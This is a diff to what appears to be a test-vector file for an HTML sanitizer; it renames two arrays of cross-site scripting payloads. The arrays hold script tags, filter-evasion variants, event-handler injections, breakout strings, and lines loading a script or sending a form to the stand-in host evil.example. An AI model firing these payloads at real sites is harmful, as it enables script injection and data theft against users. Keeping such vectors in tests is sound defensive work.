@@ -48,7 +48,7 @@ const EVENTS = [
   'ONERROR',
   'onbeforetoggle',
 ];
-const WHOLE = [
+const COMPLETE_ATTACKS = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -167,7 +167,7 @@ const WHOLE = [
 export const RICH_VECTORS: readonly string[] = [
   ...SPELLINGS.flatMap((address) => [`<a href="${address}">x</a>`, `<img src="${address}" alt="x">`]),
   ...EVENTS.map((event) => `<img src="/storage/a.png" ${event}="alert(1)">`),
-  ...WHOLE,
+  ...COMPLETE_ATTACKS,
 ];
 
 /** What text breaks out of before it harms: an attribute, an element, a comment, a script, a template. */
@@ -176,7 +176,7 @@ const WAYS_OUT = [
   ...['-->', ']]>', '*/', '\\"-', '</svg>', '</td></tr></table>', '&quot;>', '\u2028'],
 ];
 /** Each marks the page it runs in, whatever hears of it. */
-const HARMS = [
+const HARMFUL_ADDRESSES = [
   '<img src=x onerror=alert(1)>',
   '<svg/onload=alert(1)>',
   '<script>alert(1)</script>',
@@ -195,7 +195,7 @@ const HARMS = [
   '<form action=//evil.example><button autofocus>x</button></form>',
 ];
 /** Plain texts, each another way out with another harm. */
-export const TEXT_VECTORS: readonly string[] = WAYS_OUT.flatMap((out) => HARMS.map((harm) => out + harm));
+export const TEXT_VECTORS: readonly string[] = WAYS_OUT.flatMap((out) => HARMFUL_ADDRESSES.map((harm) => out + harm));
 
 /** What a menu rule could be made to open or show. */
 export const ADDRESS_VECTORS: readonly string[] = [
